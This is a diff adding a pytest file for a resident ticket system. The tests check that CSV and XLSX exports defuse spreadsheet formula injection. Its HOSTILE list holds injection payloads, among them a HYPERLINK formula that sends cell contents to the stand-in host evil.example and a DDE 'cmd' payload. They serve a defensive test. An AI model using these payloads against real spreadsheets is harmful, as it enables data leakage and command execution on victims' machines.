@@ -1,0 +1,66 @@
+"""CSV and XLSX exports never carry a live formula: a resident's words stay words in the spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from aiohttp.test_utils import TestClient
+from openpyxl import load_workbook
+
+from handlers.domain import results, tickets
+from tests.web.conftest import login
+from tests.web.seed import GRID_CHAT, Seeded
+
+Client = TestClient  # type: ignore[type-arg]
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _open(seeded: Seeded, text: str, result: str) -> int:
+    settings = seeded.services.settings
+    grid = settings.grids_by_id["g10"]
+    chat_id, topic = GRID_CHAT["g10"]
+    with seeded.services.turn() as deps:
+        t = tickets.open_ticket(
+            deps,
+            msg=None,
+            chat_id=chat_id,
+            chat_topic=topic,
+            reporter_id="wxid_res_x",
+            reporter_name="某居民",
+            text=text,
+            category="sanitation",
+            urgency="normal",
+            grid=grid,
+            community=settings.community_of_grid["g10"],
+        )
+        results.resolve(deps, t, "wxid_zhangyan", result)
+        return t.id
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+async def test_a_csv_cell_that_would_be_a_formula_gets_a_quote(client: Client, seeded: Seeded, hostile: str) -> None:
+    ticket = _open(seeded, hostile, hostile)
+    assert await login(client, "wxid_wanghuan") == 302
+    body = await (await client.get(f"/tickets.csv?q=%23{ticket}")).read()
+    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+    assert [(r["内容"], r["办理结果"]) for r in rows] == [("'" + hostile, "'" + hostile)]
+
+
+async def test_every_xlsx_cell_is_a_string(client: Client, seeded: Seeded) -> None:
+    ids = [_open(seeded, hostile, hostile) for hostile in HOSTILE]
+    assert await login(client, "wxid_wanghuan") == 302
+    book = load_workbook(io.BytesIO(await (await client.get("/tickets.xlsx")).read()))
+    cells = [cell for row in book["工单"].iter_rows() for cell in row]
+    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
+    by_id = {row[0].value: row for row in book["工单"].iter_rows(min_row=2)}
+    assert [(by_id[str(i)][12].value, by_id[str(i)][13].value) for i in ids] == [(h, h) for h in HOSTILE]
